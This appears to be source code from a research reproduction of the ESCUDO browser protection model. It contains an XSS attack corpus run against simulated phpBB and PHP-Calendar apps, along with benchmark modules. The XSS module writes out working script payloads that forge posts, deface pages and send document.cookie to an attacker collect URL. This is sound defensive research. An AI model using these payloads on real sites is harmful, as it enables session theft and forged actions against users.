            victim_action=_toctou_victim_action,
            succeeded=_forged_post_exists,
        ),
    ]


def all_toctou_attacks() -> list[Attack]:
    """The deferred/TOCTOU corpus."""
    return phpbb_toctou_attacks()
