"""The cross-site-scripting attack corpus.

The paper creates four XSS attacks per application (Section 6.4): posting
new content on behalf of the victim, modifying existing content, plus (in
this corpus, matching the goals the paper's threat discussion motivates)
stealing the session cookie and defacing the application chrome.  Input
validation is removed from the applications so the payloads reach the page;
the question the experiment answers is what the *browser's* protection model
lets the injected scripts do once they are there.

Every payload is a ``<script>`` hidden inside user-supplied content (a forum
reply, a private message, a calendar event).  Under ESCUDO these scripts run
as ring-3 principals inside their message/event scope; under the same-origin
policy they run with the full authority of the page's origin.
"""

from __future__ import annotations

from .attacker import AttackerSite
from .harness import Attack, AttackEnvironment, visit

#: URL the cookie-stealing payloads exfiltrate to.
COLLECT_URL = f"{AttackerSite().origin}/collect"


# -- payload builders ------------------------------------------------------------------------------


def payload_post_as_victim(action_query: str) -> str:
    """Script that forges an authenticated POST through ``XMLHttpRequest``."""
    return (
        "<script>"
        "var xhr = new XMLHttpRequest();"
        f"xhr.open('POST', '{action_query}');"
        "xhr.send();"
        "</script>thanks for the great discussion!"
    )


def payload_modify_element(element_id: str, replacement: str) -> str:
    """Script that rewrites somebody else's content through the DOM API."""
    return (
        "<script>"
        f"var victimNode = document.getElementById('{element_id}');"
        f"if (victimNode != null) {{ victimNode.innerHTML = '{replacement}'; }}"
        "</script>interesting point."
    )


def payload_steal_cookie() -> str:
    """Script that reads ``document.cookie`` and ships it to the attacker."""
    return (
        "<script>"
        "var loot = document.cookie;"
        "var xhr = new XMLHttpRequest();"
        f"xhr.open('GET', '{COLLECT_URL}?c=' + loot);"
        "xhr.send();"
        "</script>nice weather today."
    )


def payload_deface_chrome(element_id: str, text: str) -> str:
    """Script that rewrites the application chrome (navigation, banners)."""
    return (
        "<script>"
        f"var chromeNode = document.getElementById('{element_id}');"
        f"if (chromeNode != null) {{ chromeNode.textContent = '{text}'; }}"
        "</script>+1"
    )


# -- success predicates -----------------------------------------------------------------------------


def _forged_post_exists_phpbb(env: AttackEnvironment) -> bool:
    return any(topic.title == "PWNED" for topic in env.app.state.topics)


def _forged_event_exists(env: AttackEnvironment) -> bool:
    return any(event.title == "PWNED" for event in env.app.state.events)


def _element_contains(env: AttackEnvironment, element_id: str, needle: str) -> bool:
    if env.loaded is None:
        return False
    element = env.loaded.page.document.get_element_by_id(element_id)
    return element is not None and needle in element.text_content

def _element_inner_contains(env: AttackEnvironment, element_id: str, needle: str) -> bool:
    if env.loaded is None:
        return False
    element = env.loaded.page.document.get_element_by_id(element_id)
    if element is None:
        return False
    from repro.html.serializer import serialize_children

    return needle in serialize_children(element) or needle in element.text_content


def _cookie_stolen(env: AttackEnvironment) -> bool:
    session_id = env.victim_cookie_value()
    return bool(session_id) and env.attacker.received(session_id)


# -- phpBB attacks -------------------------------------------------------------------------------------


def phpbb_xss_attacks() -> list[Attack]:
    """The four phpBB XSS attacks."""

    def plant_reply(payload: str):
        def plant(env: AttackEnvironment) -> None:
            env.app.add_reply(1, "mallory", payload)

        return plant

    def plant_private_message(payload: str):
        def plant(env: AttackEnvironment) -> None:
            env.app.send_private_message("mallory", env.victim, "hello", payload)

        return plant

    view_topic = lambda env: visit(env, "/viewtopic?t=1")  # noqa: E731 - tiny adapters
    view_inbox = lambda env: visit(env, "/privmsg")  # noqa: E731

    return [
        Attack(
            name="phpbb-xss-post-as-victim",
            app_key="phpbb",
            category="xss",
            description="reply hides a script that forges a new topic through the victim's session",
            plant=plant_reply(
                payload_post_as_victim("/posting?mode=newtopic&subject=PWNED&message=forged+by+xss")
            ),
            victim_action=view_topic,
            succeeded=_forged_post_exists_phpbb,
        ),
        Attack(
            name="phpbb-xss-modify-existing-message",
            app_key="phpbb",
            category="xss",
            description="reply hides a script that rewrites another user's post via the DOM API",
            plant=plant_reply(payload_modify_element("post-body-1", "DEFACED BY MALLORY")),
            victim_action=view_topic,
            succeeded=lambda env: _element_inner_contains(env, "post-body-1", "DEFACED BY MALLORY"),
        ),
        Attack(
            name="phpbb-xss-steal-session-cookie",
            app_key="phpbb",
            category="xss",
            description="private message hides a script that exfiltrates document.cookie",
            plant=plant_private_message(payload_steal_cookie()),
            victim_action=view_inbox,
            succeeded=_cookie_stolen,
        ),
        Attack(
            name="phpbb-xss-deface-application-chrome",
            app_key="phpbb",
            category="xss",
            description="reply hides a script that rewrites the forum header (ring-1 chrome)",
            plant=plant_reply(payload_deface_chrome("whoami", "pwned by mallory")),
            victim_action=view_topic,
            succeeded=lambda env: _element_contains(env, "whoami", "pwned by mallory"),
        ),
    ]


# -- PHP-Calendar attacks -----------------------------------------------------------------------------------


def phpcalendar_xss_attacks() -> list[Attack]:
    """The four PHP-Calendar XSS attacks."""

    def plant_event(payload: str):
        def plant(env: AttackEnvironment) -> None:
            env.app.create_event("mallory", "2010-04-18", "Community picnic", payload)

        return plant

    view_month = lambda env: visit(env, "/")  # noqa: E731

    return [
        Attack(
            name="phpcalendar-xss-create-event-as-victim",
            app_key="phpcalendar",
            category="xss",
            description="event description hides a script that forges a new event via the victim's session",
            plant=plant_event(
                payload_post_as_victim(
                    "/event/create?date=2010-04-30&title=PWNED&description=forged+by+xss"
                )
            ),
            victim_action=view_month,
            succeeded=_forged_event_exists,
        ),
        Attack(
            name="phpcalendar-xss-modify-existing-event",
            app_key="phpcalendar",
            category="xss",
            description="event description hides a script that rewrites another user's event",
            plant=plant_event(payload_modify_element("event-body-1", "CANCELLED (not really)")),
            victim_action=view_month,
            succeeded=lambda env: _element_inner_contains(env, "event-body-1", "CANCELLED (not really)"),
        ),
        Attack(
            name="phpcalendar-xss-steal-session-cookie",
            app_key="phpcalendar",
            category="xss",
            description="event description hides a script that exfiltrates document.cookie",
            plant=plant_event(payload_steal_cookie()),
            victim_action=view_month,
            succeeded=_cookie_stolen,
        ),
        Attack(
            name="phpcalendar-xss-deface-application-chrome",
            app_key="phpcalendar",
            category="xss",
            description="event description hides a script that rewrites the calendar header",
            plant=plant_event(payload_deface_chrome("calendar-user", "calendar taken over")),
            victim_action=view_month,
            succeeded=lambda env: _element_contains(env, "calendar-user", "calendar taken over"),
        ),
    ]


def all_xss_attacks() -> list[Attack]:
    """The full XSS corpus (four per application, as in the paper)."""
    return phpbb_xss_attacks() + phpcalendar_xss_attacks()
