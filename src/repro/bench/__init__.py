"""Benchmark support: Figure-4 workloads, timing loops and report formatting."""

from .reporting import format_defense_matrix, format_figure4, format_policy_table, format_table
from .timing import (
    OverheadRow,
    TimingSample,
    average_overhead,
    measure_all,
    measure_workload,
    parse_and_render,
    time_callable,
)
from .workloads import SCENARIOS, ScenarioSpec, Workload, all_workloads, build_workload, workload_by_name

__all__ = [
    "OverheadRow",
    "SCENARIOS",
    "ScenarioSpec",
    "TimingSample",
    "Workload",
    "all_workloads",
    "average_overhead",
    "build_workload",
    "format_defense_matrix",
    "format_figure4",
    "format_policy_table",
    "format_table",
    "measure_all",
    "measure_workload",
    "parse_and_render",
    "time_callable",
    "workload_by_name",
]
