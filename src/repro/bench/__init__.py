"""Benchmark support: Figure-4 workloads, timing loops and report formatting."""

from .event_loop_bench import (
    EVENT_LOOP_RESULTS_NAME,
    format_event_loop_report,
    measure_event_loop,
    write_event_loop_report,
)
from .parallel_bench import (
    PARALLEL_RESULTS_NAME,
    format_parallel_report,
    measure_parallel_scenarios,
    write_parallel_report,
)
from .scenario_bench import (
    SCENARIO_RESULTS_NAME,
    measure_scenarios,
    write_scenario_report,
)
from .reporting import (
    format_defense_matrix,
    format_figure4,
    format_mediation_report,
    format_policy_table,
    format_table,
)
from .timing import (
    MediationComparison,
    MediationSample,
    OverheadRow,
    TimingSample,
    average_overhead,
    measure_all,
    measure_mediation,
    measure_page_mediation,
    measure_workload,
    parse_and_render,
    time_callable,
)
from .workloads import (
    MEDIATION_SPEC,
    SCENARIOS,
    MediationSpec,
    ScenarioSpec,
    Workload,
    all_workloads,
    build_mediation_requests,
    build_workload,
    workload_by_name,
)

__all__ = [
    "EVENT_LOOP_RESULTS_NAME",
    "MEDIATION_SPEC",
    "MediationComparison",
    "MediationSample",
    "MediationSpec",
    "OverheadRow",
    "PARALLEL_RESULTS_NAME",
    "SCENARIOS",
    "SCENARIO_RESULTS_NAME",
    "ScenarioSpec",
    "TimingSample",
    "Workload",
    "all_workloads",
    "average_overhead",
    "build_mediation_requests",
    "build_workload",
    "format_defense_matrix",
    "format_event_loop_report",
    "format_figure4",
    "format_mediation_report",
    "format_parallel_report",
    "format_policy_table",
    "format_table",
    "measure_all",
    "measure_event_loop",
    "measure_mediation",
    "measure_page_mediation",
    "measure_parallel_scenarios",
    "measure_scenarios",
    "measure_workload",
    "parse_and_render",
    "time_callable",
    "workload_by_name",
    "write_event_loop_report",
    "write_parallel_report",
    "write_scenario_report",
]
