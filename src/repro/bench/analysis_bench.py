"""Static-analysis workload: analyzer throughput and screened-suite overhead.

Three measurements back the ISSUE's performance claims for the analysis
tier:

* **cold throughput** -- scripts analyzed per second with no memoisation,
  over a corpus mixing every attack family's payloads, the webapps' own
  head/chrome scripts and synthetic variants;
* **memoised throughput** -- the same corpus served through the
  :class:`~repro.scripting.cache.ScriptReportCache` tier, with its hit
  rate (re-serving a script must cost a digest, not a dataflow fixpoint);
* **screened-suite overhead** -- wall-clock of a scenario suite with the
  soundness screen attached vs. detached, plus the digest-parity bit
  proving observation is passive.  The CI gate pins overhead < 10%.

The JSON artifact lands in ``benchmarks/results/BENCH_analysis.json``; the
CI ``static-analysis`` job regenerates it and uploads it.
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

from repro.scenarios.generator import ScenarioGenerator
from repro.scenarios.runner import ScenarioRunner
from repro.scripting.analysis import analyze_source, script_digest
from repro.scripting.cache import ScriptReportCache

from .reporting import format_table

#: Default artifact location (relative to the repository root).
ANALYSIS_RESULTS_NAME = "BENCH_analysis.json"

_SCRIPT_RE = re.compile(r"<script>(.*?)</script>", re.S)


def _attack_scripts() -> list[str]:
    from repro.attacks import csrf, node_splitting, privilege_escalation, toctou, xss

    payloads = [
        xss.payload_post_as_victim("/posting?mode=reply"),
        xss.payload_steal_cookie(),
        xss.payload_modify_element("post-body-1", "pwned"),
        xss.payload_deface_chrome("whoami", "haha"),
        csrf._lure_with_xhr("http://app.example.com", "/posting"),
        toctou.payload_deferred_post("/posting?mode=reply"),
        node_splitting.node_splitting_payload(),
        privilege_escalation.payload_remap_own_scope(),
        privilege_escalation.payload_create_privileged_child(),
    ]
    scripts = []
    for payload in payloads:
        match = _SCRIPT_RE.search(payload)
        if match:
            scripts.append(match.group(1))
    return scripts


def _benign_scripts() -> list[str]:
    from repro.webapps.blog import DEFAULT_AD_SCRIPT

    poller = (
        "var xhr = new XMLHttpRequest();"
        "xhr.open('GET', '/api/unread');"
        "xhr.send();"
        "var badge = document.getElementById('unread-count');"
        "if (badge != null && xhr.status == 200) { badge.textContent = xhr.responseText; }"
    )
    return ["var forumVersion = 'miniBB 1.0';", poller, DEFAULT_AD_SCRIPT]


def build_corpus(variants: int = 20) -> list[str]:
    """Attack + benign scripts plus synthetic variants for volume.

    Variants tweak identifier names so every script is a distinct digest --
    the cold path must pay the full fixpoint for each.
    """
    base = _attack_scripts() + _benign_scripts()
    scripts = list(base)
    for index in range(variants):
        scripts.append(
            f"var c{index} = document.cookie;"
            f"var e{index} = document.getElementById('slot{index}');"
            f"if (e{index} != null) {{ e{index}.textContent = c{index}; }}"
            f"setTimeout(function () {{ document.cookie = 'seen{index}=1'; }}, {5 + index});"
        )
    return scripts


def _measure_cold(corpus: list[str], repeats: int) -> dict:
    start = time.perf_counter()
    for _ in range(repeats):
        for source in corpus:
            analyze_source(source)
    elapsed = time.perf_counter() - start
    analyzed = repeats * len(corpus)
    return {
        "analyzed": analyzed,
        "seconds": round(elapsed, 6),
        "scripts_per_second": round(analyzed / elapsed, 1) if elapsed else 0.0,
    }


def _measure_memoised(corpus: list[str], repeats: int) -> dict:
    cache = ScriptReportCache(maxsize=max(len(corpus) * 2, 64))
    start = time.perf_counter()
    for _ in range(repeats):
        for source in corpus:
            cache.report_for(source)
    elapsed = time.perf_counter() - start
    analyzed = repeats * len(corpus)
    return {
        "analyzed": analyzed,
        "seconds": round(elapsed, 6),
        "scripts_per_second": round(analyzed / elapsed, 1) if elapsed else 0.0,
        "hit_rate": cache.hit_rate,
        "cache": cache.as_dict(),
    }


def _run_suite(runner: ScenarioRunner, scenarios) -> tuple[float, list[str]]:
    digests: list[str] = []
    start = time.perf_counter()
    for scenario in scenarios:
        runs = runner.run(scenario)
        digests.extend(runs[model].digest for model in sorted(runs))
    return time.perf_counter() - start, digests


def measure_analysis(*, variants: int = 20, repeats: int = 5, scenario_count: int = 12) -> dict:
    """Run all three measurements and return the merged report."""
    corpus = build_corpus(variants)
    distinct = len({script_digest(source) for source in corpus})

    cold = _measure_cold(corpus, repeats)
    memoised = _measure_memoised(corpus, repeats)

    scenarios = ScenarioGenerator(seed="42", attack_ratio=0.5).generate(scenario_count)
    # Steady-state comparison: one long-lived runner per mode (that is how
    # the suite actually runs -- the report tier memoises analysis after
    # the first sighting), a warmup round each, then best-of-three timed
    # rounds; minima because the suite is short enough that scheduler
    # noise would otherwise dominate the ratio.
    plain_runner = ScenarioRunner(static_screen=False)
    screened_runner = ScenarioRunner(static_screen=True)
    _, plain_digests = _run_suite(plain_runner, scenarios)
    _, screened_digests = _run_suite(screened_runner, scenarios)
    plain_rounds: list[float] = []
    screened_rounds: list[float] = []
    for _ in range(5):
        plain_rounds.append(_run_suite(plain_runner, scenarios)[0])
        screened_rounds.append(_run_suite(screened_runner, scenarios)[0])
    plain_s = min(plain_rounds)
    screened_s = min(screened_rounds)

    soundness = screened_runner.screen.verify()
    overhead_pct = ((screened_s - plain_s) / plain_s * 100.0) if plain_s else 0.0
    return {
        "corpus": {"scripts": len(corpus), "distinct_digests": distinct},
        "cold": cold,
        "memoised": memoised,
        "suite": {
            "scenarios": scenario_count,
            "plain_seconds": round(plain_s, 4),
            "screened_seconds": round(screened_s, 4),
            "overhead_pct": round(overhead_pct, 2),
            "digest_parity": plain_digests == screened_digests,
            "soundness": soundness,
            "report_cache": screened_runner.caches.reports.as_dict()
            if screened_runner.caches is not None
            else None,
        },
    }


def format_analysis_report(report: dict) -> str:
    """Human-readable summary for the text artifact."""
    rows = [
        ["cold", report["cold"]["analyzed"], report["cold"]["scripts_per_second"], "-"],
        [
            "memoised",
            report["memoised"]["analyzed"],
            report["memoised"]["scripts_per_second"],
            f"{report['memoised']['hit_rate']:.3f}",
        ],
    ]
    table = format_table(
        ["path", "scripts", "scripts/s", "hit rate"],
        rows,
        title="Static analyzer throughput",
    )
    suite = report["suite"]
    lines = [
        table,
        "",
        f"screened suite: {suite['scenarios']} scenarios, "
        f"plain {suite['plain_seconds']}s vs screened {suite['screened_seconds']}s "
        f"({suite['overhead_pct']:+.2f}% overhead, digest parity: {suite['digest_parity']})",
        f"soundness: {suite['soundness']['scripts']} scripts, "
        f"fp_rate {suite['soundness']['false_positive_rate']}, "
        f"0 false negatives (verified)",
    ]
    return "\n".join(lines)


def write_analysis_report(report: dict, target: Path) -> Path:
    """Persist the JSON artifact; returns the path written."""
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(report, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return target
