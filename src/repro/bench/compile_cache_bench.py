"""Compile-cache workloads: cold vs warm pipelines on identical inputs.

Five measurements, each pairing the baseline pipeline with the cached /
compiled stack on the *same* deterministic workload, plus a parity
certificate that the caches change nothing but speed:

* **Page compilation** -- the same response body through parse → label →
  render, cold per load vs served as template clones
  (``page_compile_speedup``; the serialized DOM, ring histogram and render
  statistics must be identical).
* **Script front end** -- the same source executed repeatedly, cold parse
  per run vs the shared AST cache (``script_ast_speedup``).
* **Script execution** -- a script-heavy payload on a warm front end, AST
  walker vs the bytecode VM with shared inline caches
  (``script_vm_speedup``; identical completion values required).
* **Warm-start mediation** -- per-page *fresh* reference monitors performing
  the repeated-access sweep of the mediation benchmark, each with its own
  decision cache (the cold-start reality the scenario engine used to pay)
  vs monitors sharing one pre-warmed decision cache and policy instance
  (``mediation_warm_speedup``; per-request verdicts must be identical).
* **Scenario throughput** -- the full differential suite at one worker:
  cold runner, a fresh warm worker's first pass (``scenario_speedup``), and
  the same worker re-running the identical range at steady state
  (``scenario_steady_speedup`` -- the amortised cross-scenario number the
  per-worker stack exists for).  Byte-identical ``parity_dict`` reports are
  required for every pass (``verdict_parity``).  When the pinned PR-3
  baseline artifact is available, ``scenarios_per_second_seed`` /
  ``speedup_vs_seed`` compare the steady-state throughput against it.

The payload lands in ``benchmarks/results/BENCH_compile_cache.json`` and is
uploaded by the CI ``perf-smoke`` job, which asserts the committed floors.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

from repro.browser.compile_cache import CompileCaches
from repro.browser.loader import LoaderOptions, load_page
from repro.core.monitor import ReferenceMonitor
from repro.core.policy import EscudoPolicy
from repro.html.serializer import serialize
from repro.scenarios.engine import run_suite
from repro.scenarios.model import canonical_spec_json
from repro.scripting.cache import ScriptAstCache, ScriptCodeCache
from repro.scripting.interpreter import Interpreter
from repro.scripting.vm import VirtualMachine

from .workloads import MediationSpec, build_mediation_requests

#: Artifact name uploaded by the CI ``perf-smoke`` job.
COMPILE_CACHE_RESULTS_NAME = "BENCH_compile_cache.json"

#: Pinned PR-3 scenario throughput (the pre-compile-cache baseline).
SEED_SCENARIOS_NAME = "BENCH_scenarios_seed.json"

PAGE_URL = "http://bench.example.com/page"

#: A representative ESCUDO page: labelled scopes, nonced terminators, text.
PAGE_BODY = (
    "<!DOCTYPE html><html><head><title>compile bench</title>"
    "<script>var version = 1;</script></head><body>"
    '<div ring="1" r="1" w="1" x="1" nonce="aaaa1111bbbb2222">'
    '<h1 id="banner">Forum</h1><p>Navigation chrome with some text.</p>'
    "</div nonce=\"aaaa1111bbbb2222\">"
    + "".join(
        f'<div ring="3" r="3" w="3" x="3" nonce="cccc{i:04d}dddd3333">'
        f'<p id="msg-{i}">User message number {i} with a little prose in it.</p>'
        f"</div nonce=\"cccc{i:04d}dddd3333\">"
        for i in range(12)
    )
    + "</body></html>"
)

SCRIPT_SOURCE = (
    "var total = 0;"
    "for (var i = 0; i < 5; i = i + 1) { total = total + i; }"
    "total;"
)

#: A script-heavy scenario payload in the shape of real page scripts: loops
#: over object rows, member reads, method calls, string building.  This is
#: the workload class where execution (not the front end) dominates, i.e.
#: where the bytecode VM and its inline caches earn their keep.
VM_SCRIPT_SOURCE = """
var rows = [];
for (var i = 0; i < 30; i = i + 1) {
    rows.push({id: i, weight: i % 7, label: 'row-' + i});
}
var score = 0;
var labels = '';
for (var i = 0; i < rows.length; i = i + 1) {
    var row = rows[i];
    for (var j = 0; j < 16; j = j + 1) {
        score = score + row.weight * j % 7;
    }
    if (row.id % 3 == 0) {
        labels = labels + row.label + '|';
    }
}
var parts = labels.split('|');
var total = 0;
for (var i = 0; i < parts.length; i = i + 1) {
    total = total + parts[i].length;
}
score + total;
"""


def _measure_page_compile(loads: int) -> dict:
    """The same body through the load pipeline, cold vs template-served."""
    options = LoaderOptions()

    start = time.perf_counter()
    for _ in range(loads):
        cold_page = load_page(PAGE_BODY, PAGE_URL, options=options)
    cold_s = time.perf_counter() - start

    caches = CompileCaches.build()
    start = time.perf_counter()
    for _ in range(loads):
        warm_page = load_page(PAGE_BODY, PAGE_URL, options=options, caches=caches)
    warm_s = time.perf_counter() - start

    parity = (
        serialize(warm_page.document) == serialize(cold_page.document)
        and warm_page.ring_histogram() == cold_page.ring_histogram()
        and warm_page.rendering == cold_page.rendering
        and warm_page.escudo_enabled == cold_page.escudo_enabled
        and warm_page.ignored_end_tags == cold_page.ignored_end_tags
    )
    return {
        "loads": loads,
        "cold_s": cold_s,
        "warm_s": warm_s,
        "cold_loads_per_second": loads / cold_s if cold_s > 0 else 0.0,
        "warm_loads_per_second": loads / warm_s if warm_s > 0 else 0.0,
        "speedup": cold_s / warm_s if warm_s > 0 else 0.0,
        "parity": parity,
        "template_hit_rate": caches.templates.hit_rate,
    }


def _measure_script_ast(runs: int) -> dict:
    """The same source executed repeatedly, cold front end vs AST cache."""
    start = time.perf_counter()
    for _ in range(runs):
        cold_result = Interpreter().run(SCRIPT_SOURCE)
    cold_s = time.perf_counter() - start

    cache = ScriptAstCache()
    start = time.perf_counter()
    for _ in range(runs):
        warm_result = Interpreter().run(cache.parse(SCRIPT_SOURCE))
    warm_s = time.perf_counter() - start

    return {
        "runs": runs,
        "cold_s": cold_s,
        "warm_s": warm_s,
        "cold_runs_per_second": runs / cold_s if cold_s > 0 else 0.0,
        "warm_runs_per_second": runs / warm_s if warm_s > 0 else 0.0,
        "speedup": cold_s / warm_s if warm_s > 0 else 0.0,
        "parity": (warm_result.value == cold_result.value and not warm_result.failed),
        "ast_hit_rate": cache.hit_rate,
    }


def _measure_script_vm(runs: int, rounds: int = 3) -> dict:
    """Script execution on a script-heavy payload: AST walker vs bytecode VM.

    Both engines run with a warm front end (the walker executes the cached
    AST, the VM executes the cached :class:`CodeObject`), so the measured
    difference is pure execution -- the tier this PR adds.  Each run builds
    a fresh engine, like one page-load principal; the compiled code (and its
    inline caches) is shared through the code cache, like one worker's
    cache stack.  Per-engine times are best-of-``rounds`` (the minimum-time
    estimator -- scheduler noise only ever slows a round down), applied to
    walker and VM alike.
    """
    ast_cache = ScriptAstCache()
    program = ast_cache.parse(VM_SCRIPT_SOURCE)
    code_cache = ScriptCodeCache()
    code = code_cache.code_for(VM_SCRIPT_SOURCE, parse=ast_cache.parse)
    rounds = max(1, rounds)

    # Warm-up (also primes the shared inline caches, untimed).
    walker_result = Interpreter().run(program)
    vm_result = VirtualMachine().run(code)

    walker_s = float("inf")
    for _ in range(rounds):
        start = time.perf_counter()
        for _ in range(runs):
            walker_result = Interpreter().run(program)
        walker_s = min(walker_s, time.perf_counter() - start)

    vm_s = float("inf")
    ic_hits = 0
    ic_misses = 0
    for _ in range(rounds):
        ic_hits = 0
        ic_misses = 0
        start = time.perf_counter()
        for _ in range(runs):
            vm = VirtualMachine()
            vm_result = vm.run(code)
            ic_hits += vm.ic_hits
            ic_misses += vm.ic_misses
        vm_s = min(vm_s, time.perf_counter() - start)

    ic_total = ic_hits + ic_misses
    return {
        "runs": runs,
        "rounds": rounds,
        "walker_s": walker_s,
        "vm_s": vm_s,
        "walker_scripts_per_second": runs / walker_s if walker_s > 0 else 0.0,
        "vm_scripts_per_second": runs / vm_s if vm_s > 0 else 0.0,
        "speedup": walker_s / vm_s if vm_s > 0 else 0.0,
        "ic_hit_rate": ic_hits / ic_total if ic_total else 0.0,
        "parity": (
            vm_result.value == walker_result.value
            and not vm_result.failed
            and not walker_result.failed
        ),
    }


def _measure_warm_mediation(pages: int, spec: MediationSpec | None = None) -> dict:
    """Per-page fresh monitors: private cold caches vs one pre-warmed cache.

    Each simulated page gets a brand-new :class:`ReferenceMonitor` -- the
    scenario engine's reality -- and mediates the repeated-access sweep once.
    Cold-start monitors own a fresh decision cache and policy, so every page
    re-evaluates every distinct request; warm-start monitors share the
    stack's pre-warmed cache and policy instance, so every request is a
    lookup.  Verdicts are compared per request.
    """
    spec = spec or MediationSpec()
    # One pass over every distinct (principal, target, operation) triple per
    # page: a page load decides each distinct request about once, which is
    # the least cache-friendly shape (repeats only help the warm variant
    # further).
    requests = build_mediation_requests(
        MediationSpec(
            name=spec.name,
            principal_rings=spec.principal_rings,
            distinct_targets=spec.distinct_targets,
            operations=spec.operations,
            total_requests=spec.distinct_keys,
        )
    )

    cold_verdicts: list[bool] = []
    start = time.perf_counter()
    for _ in range(pages):
        monitor = ReferenceMonitor(EscudoPolicy(), cache=True)
        cold_verdicts = [monitor.authorize(p, t, op).allowed for p, t, op in requests]
    cold_s = time.perf_counter() - start

    caches = CompileCaches.build()
    shared_policy = EscudoPolicy()
    # Pre-warm: one untimed monitor fills the shared cache (the stack's
    # policy-matrix seeding, condensed).
    seed_monitor = ReferenceMonitor(shared_policy, cache=caches.decisions)
    seed_monitor.warm(requests[0][0], [t for _, t, _ in requests], requests[0][2])
    for principal, target, operation in requests:
        seed_monitor.authorize(principal, target, operation)

    warm_verdicts: list[bool] = []
    start = time.perf_counter()
    for _ in range(pages):
        monitor = ReferenceMonitor(shared_policy, cache=caches.decisions)
        warm_verdicts = [monitor.authorize(p, t, op).allowed for p, t, op in requests]
    warm_s = time.perf_counter() - start

    mediations = pages * len(requests)
    return {
        "pages": pages,
        "requests_per_page": len(requests),
        "cold_s": cold_s,
        "warm_s": warm_s,
        "cold_mediations_per_second": mediations / cold_s if cold_s > 0 else 0.0,
        "warm_mediations_per_second": mediations / warm_s if warm_s > 0 else 0.0,
        "speedup": cold_s / warm_s if warm_s > 0 else 0.0,
        "parity": warm_verdicts == cold_verdicts,
        "shared_cache_hit_rate": caches.decisions.hit_rate,
    }


def _measure_scenarios(seed, count: int, attack_ratio: float, rounds: int = 3) -> dict:
    """The full differential suite: cold runner, first warm pass, steady state.

    Three throughputs over the identical seed range at one worker:

    * **cold** -- the PR-3 pipeline (``compile_caches=False``), re-measured
      under the same conditions as the warm runs;
    * **warm (first pass)** -- a fresh worker with the compile-cache stack,
      paying every compile miss while it fills;
    * **steady state** -- the *same* worker re-running the identical range
      (the regression-replay / corpus-re-execution reality the per-worker
      stack exists for): templates, ASTs and decisions are already resident.

    Cold and steady-state throughputs are best-of-``rounds`` (the
    minimum-time estimator -- scheduler noise on shared hardware only ever
    *lowers* a round's throughput, so the max is the least-noise estimate,
    applied to baseline and cached variant alike).  The first warm pass is
    inherently a single shot: it is the pass that fills the caches.  Every
    pass must produce a byte-identical semantic report.
    """
    from repro.scenarios.runner import ScenarioRunner

    rounds = max(1, rounds)
    cold_runs = [
        run_suite(seed=seed, count=count, attack_ratio=attack_ratio, compile_caches=False)
        for _ in range(rounds)
    ]
    cold = max(cold_runs, key=lambda suite: suite.scenarios_per_second)
    worker = ScenarioRunner()
    warm = run_suite(seed=seed, count=count, attack_ratio=attack_ratio, runner=worker)
    steady_runs = [
        run_suite(seed=seed, count=count, attack_ratio=attack_ratio, runner=worker)
        for _ in range(rounds)
    ]
    steady = max(steady_runs, key=lambda suite: suite.scenarios_per_second)
    baseline_parity = canonical_spec_json(cold.parity_dict())
    return {
        "seed": cold.seed,
        "count": count,
        "attack_ratio": attack_ratio,
        "rounds": rounds,
        "cold_rounds": [suite.scenarios_per_second for suite in cold_runs],
        "steady_rounds": [suite.scenarios_per_second for suite in steady_runs],
        "cold_scenarios_per_second": cold.scenarios_per_second,
        "warm_scenarios_per_second": warm.scenarios_per_second,
        "steady_scenarios_per_second": steady.scenarios_per_second,
        "speedup": (
            warm.scenarios_per_second / cold.scenarios_per_second
            if cold.scenarios_per_second > 0
            else 0.0
        ),
        "steady_speedup": (
            steady.scenarios_per_second / cold.scenarios_per_second
            if cold.scenarios_per_second > 0
            else 0.0
        ),
        "cold_ok": all(suite.ok for suite in cold_runs),
        "warm_ok": warm.ok and all(suite.ok for suite in steady_runs),
        "warm_cache_hit_rate": warm.cache_hit_rate,
        "steady_cache_hit_rate": steady.cache_hit_rate,
        # Byte-identical semantic reports: verdicts, digests, mediation and
        # denial counts must not depend on the caches (cold or warm, first
        # pass or steady state).
        "verdict_parity": (
            canonical_spec_json(warm.parity_dict()) == baseline_parity
            and all(
                canonical_spec_json(suite.parity_dict()) == baseline_parity
                for suite in steady_runs
            )
        ),
    }


def measure_compile_cache(
    *,
    page_loads: int = 60,
    script_runs: int = 300,
    script_vm_runs: int = 200,
    mediation_pages: int = 60,
    scenario_seed: int | str = 42,
    scenario_count: int = 25,
    attack_ratio: float = 0.25,
    scenario_rounds: int = 3,
    seed_baseline_path: Path | str | None = None,
) -> dict:
    """Run the five workloads and build the artifact payload."""
    page_compile = _measure_page_compile(page_loads)
    script_ast = _measure_script_ast(script_runs)
    script_vm = _measure_script_vm(script_vm_runs)
    warm_mediation = _measure_warm_mediation(mediation_pages)
    scenarios = _measure_scenarios(
        scenario_seed, scenario_count, attack_ratio, rounds=scenario_rounds
    )

    payload = {
        "page_compile": page_compile,
        "script_ast": script_ast,
        "script_vm": script_vm,
        "warm_mediation": warm_mediation,
        "scenarios": scenarios,
        # Headline fields for dashboard consumers and the CI floor checks.
        "page_compile_speedup": page_compile["speedup"],
        "script_ast_speedup": script_ast["speedup"],
        "script_vm_speedup": script_vm["speedup"],
        "mediation_warm_speedup": warm_mediation["speedup"],
        "scenario_speedup": scenarios["speedup"],
        "scenario_steady_speedup": scenarios["steady_speedup"],
        # Headline throughput: the warm worker at steady state (the pinned
        # PR-3 baseline is compared against this).
        "scenarios_per_second": scenarios["steady_scenarios_per_second"],
        "verdict_parity": bool(
            scenarios["verdict_parity"]
            and page_compile["parity"]
            and script_ast["parity"]
            and script_vm["parity"]
            and warm_mediation["parity"]
        ),
    }

    baseline = _load_seed_baseline(seed_baseline_path)
    if baseline is not None:
        payload["scenarios_per_second_seed"] = baseline
        payload["speedup_vs_seed"] = (
            payload["scenarios_per_second"] / baseline if baseline > 0 else 0.0
        )
    return payload


def _load_seed_baseline(path: Path | str | None) -> float | None:
    """The PR-3 baseline's scenarios/s, or ``None`` when unavailable."""
    if path is None:
        return None
    target = Path(path)
    if not target.exists():
        return None
    try:
        data = json.loads(target.read_text(encoding="utf-8"))
        return float(data["scenarios_per_second"])
    except (ValueError, KeyError, TypeError):
        return None


def format_compile_cache_report(payload: dict) -> str:
    """Human-readable summary of the compile-cache workloads."""
    page = payload["page_compile"]
    script = payload["script_ast"]
    vm = payload["script_vm"]
